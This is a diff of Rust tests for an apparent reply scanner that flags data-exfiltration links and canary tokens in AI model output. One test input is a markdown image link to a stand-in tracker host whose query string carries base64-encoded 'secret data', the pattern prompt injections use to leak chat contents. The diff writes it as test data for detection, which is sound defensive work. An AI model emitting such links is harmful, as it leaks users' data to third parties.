@@ -343,12 +343,14 @@ fn reply_scanner_finds_exfiltration_links_and_canary() {
     let raw: ThreatsConfig =
         serde_json::from_str(r#"{"canary":"cnry-7f3a9e21","reply":{"allowed_link_hosts":["example.com"]}}"#).unwrap();
     let c = raw.compile().unwrap();
-    let found =
-        c.reply.scan("Sure! ![x](https://tracker.example.net/i.png?data=c2VjcmV0IGRhdGEgaGVyZQ) and cnry-7f3a9e21");
+    // The closure says whether a link carries this exchange's data (engine::reply decides).
+    let found = c
+        .reply
+        .scan("Sure! ![x](https://tracker.example.net/i.png?data=c2VjcmV0IGRhdGEgaGVyZQ) and cnry-7f3a9e21", &mut |_| true);
     let ids: Vec<_> = found.iter().map(|f| f.rule_id).collect();
     assert!(ids.contains(&"PG-RP-001") && ids.contains(&"PG-RP-002"), "{ids:?}");
-    assert!(c.reply.scan("See [the docs](https://docs.example.com/guide?q=install).").is_empty());
-    assert!(c.reply.scan("See [home](https://example.org/).").is_empty());
+    assert!(c.reply.scan("See [the docs](https://docs.example.com/guide?q=install).", &mut |_| true).is_empty());
+    assert!(c.reply.scan("See [home](https://example.org/).", &mut |_| false).is_empty());
 }
 
 #[test]
@@ -390,7 +392,7 @@ fn hostile_inputs_do_not_panic() {
         for source in Source::ALL {
             let _ = c.policy.decide(&c.scanner.scan(text, source));
         }
-        let _ = c.reply.scan(text);
+        let _ = c.reply.scan(text, &mut |_| true);
         let _ = check_hygiene(text, &HygieneSettings::default());
     }
 }
